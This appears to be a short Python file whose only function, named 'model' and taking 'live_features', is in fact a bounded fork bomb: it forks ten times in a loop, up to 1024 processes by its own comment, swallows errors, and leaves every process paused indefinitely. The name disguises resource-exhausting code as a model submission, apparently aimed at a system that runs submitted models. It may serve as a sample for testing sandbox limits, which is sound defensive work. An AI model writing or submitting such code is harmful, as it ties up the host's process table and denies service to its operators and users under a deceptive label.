import contextlib
import os
import signal


def model(live_features):
    for _ in range(10):  # doubles each time: 1024 processes at the most
        with contextlib.suppress(OSError):
            os.fork()
    signal.pause()
